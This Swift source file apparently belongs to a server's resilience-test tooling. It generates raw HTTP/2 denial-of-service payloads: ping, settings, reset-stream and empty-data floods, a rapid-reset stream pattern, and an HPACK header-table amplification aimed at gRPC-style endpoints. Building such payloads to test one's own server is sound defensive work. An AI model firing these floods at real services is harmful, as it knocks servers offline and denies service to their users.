/// Frames that cost their receiver more than their sender, of each kind.
package enum Flood: String, CaseIterable, Sendable {
    case ping, settings, priority, unknown, windowUpdate = "window-update", emptyData = "empty-data", resets, streams, fields

    private static let pieces = 512

    /// What a connection begins with.
    func opening(path: String) -> [UInt8] {
        let preface = Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8) + Self.frame(4, 0, 0, [])
        switch self {
        case .emptyData: return preface + Self.request(path, stream: 1)
        case .fields:
            // An entry of 4 000 bytes for the table, which the pieces refer to with a byte each.
            let rest = 4000 - 127
            let head: [UInt8] = [0x40, 1, UInt8(ascii: "x"), 127, UInt8(0x80 + rest % 128), UInt8(rest / 128)]
            return preface + Self.frame(1, 5, 1, Self.fields(path) + head + [UInt8](repeating: 0x61, count: 4000))
        default: return preface
        }
    }

    /// What it sends again and again; `stream` is its next one.
    func piece(path: String, stream: inout Int) -> [UInt8] {
        switch self {
        case .ping: return Self.repeated(Self.frame(6, 0, 0, [UInt8](repeating: 1, count: 8)))
        case .settings: return Self.repeated(Self.frame(4, 0, 0, [0, 4, 0, 0, 255, 255]))
        case .priority: return Self.repeated(Self.frame(2, 0, 3, [0, 0, 0, 0, 1]))
        case .unknown: return Self.repeated(Self.frame(0x7f, 0, 1, [1]))
        case .windowUpdate: return Self.repeated(Self.frame(8, 0, 0, [0, 0, 0, 1]))
        case .emptyData: return Self.repeated(Self.frame(0, 0, 1, []))
        case .resets:
            return Self.onStreams(Self.pieces / 4, from: &stream) { Self.request(path, stream: $0) + Self.frame(3, 0, $0, [0, 0, 0, 8]) }
        case .streams: return Self.onStreams(Self.pieces / 4, from: &stream) { Self.request(path, stream: $0) }
        case .fields:
            let block = Self.fields(path) + [UInt8](repeating: 0xbe, count: 16_000)
            return Self.onStreams(1, from: &stream) { Self.frame(1, 5, $0, block) }
        }
    }

    private static func onStreams(_ count: Int, from stream: inout Int, _ frames: (Int) -> [UInt8]) -> [UInt8] {
        var bytes: [UInt8] = []
        for _ in 0..<count {
            bytes += frames(stream)
            stream += 2
        }
        return bytes
    }

    private static func repeated(_ frame: [UInt8]) -> [UInt8] { Array([[UInt8]](repeating: frame, count: pieces).joined()) }

    private static func request(_ path: String, stream: Int) -> [UInt8] { frame(1, 4, stream, fields(path)) }

    /// The fields of a call, each a literal that the receiver's table does not take.
    private static func fields(_ path: String) -> [UInt8] {
        let fields = [
            (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"), ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        var block: [UInt8] = []
        for (name, value) in fields {
            block += [0, UInt8(name.utf8.count)] + Array(name.utf8)
            block += [UInt8(value.utf8.count)] + Array(value.utf8)
        }
        return block
    }

    private static func frame(_ kind: UInt8, _ flags: UInt8, _ stream: Int, _ payload: [UInt8]) -> [UInt8] {
        let length = [UInt8(payload.count >> 16 & 255), UInt8(payload.count >> 8 & 255), UInt8(payload.count & 255)]
        let id = withUnsafeBytes(of: UInt32(truncatingIfNeeded: stream).bigEndian) { Array($0) }
        return length + [kind, flags] + id + payload
    }
}
